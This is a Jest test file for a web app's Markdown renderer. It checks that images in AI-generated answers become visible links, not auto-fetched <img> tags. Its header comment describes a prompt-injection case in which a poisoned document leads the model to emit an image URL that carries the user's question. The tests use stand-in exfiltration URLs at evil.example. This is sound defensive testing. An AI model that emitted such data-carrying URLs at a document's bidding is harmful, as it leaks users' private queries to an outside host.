/**
 * @jest-environment jsdom
 */
import { renderMarkdown } from '../../apps/web/src/markdown/render-markdown';

// Type-checked with the web page (apps/web/tsconfig.json: DOM types), not with the server code.
// Finding 3: DOMPurify kept `<img src="https://…">` from Markdown `![](…)`: a poisoned document could make the model
// emit an image URL carrying the question, and the browser would fetch it without anyone clicking anything.

const dom = (html: string) => {
  const div = document.createElement('div');
  div.innerHTML = html;
  return div;
};

describe('finding 3: an image in an answer never makes the browser fetch a remote URL', () => {
  it('renders a remote Markdown image as a link the reader can see, not as an <img>', () => {
    const out = dom(renderMarkdown('Here: ![the answer](https://evil.example/leak?q=what+is+our+salary+policy) done.'));
    expect(out.querySelector('img')).toBeNull();
    const link = out.querySelector('a')!;
    expect(link.getAttribute('href')).toBe('https://evil.example/leak?q=what+is+our+salary+policy');
    expect(link.textContent).toContain('the answer');
    expect(link.getAttribute('rel')).toContain('noreferrer');
  });

  it('renders no <img> for protocol-relative, relative or reference-style images either', () => {
    const out = dom(renderMarkdown('![a](//evil.example/x) ![b](/api/documents?x=1) ![c][ref]\n\n[ref]: https://evil.example/y'));
    expect(out.querySelectorAll('img')).toHaveLength(0);
  });

  it('keeps an inline data: image (no request leaves the page)', () => {
    const out = dom(renderMarkdown('![dot](data:image/png;base64,iVBORw0KGgo=)'));
    expect(out.querySelector('img')?.getAttribute('src')).toBe('data:image/png;base64,iVBORw0KGgo=');
  });

  it('never lets an <img> with a remote src through the sanitizer, however the HTML was made', () => {
    const out = dom(renderMarkdown('[![x](https://evil.example/a.png)](https://example.com)'));
    expect([...out.querySelectorAll('img')].filter((img) => !img.getAttribute('src')?.startsWith('data:'))).toHaveLength(0);
  });
});
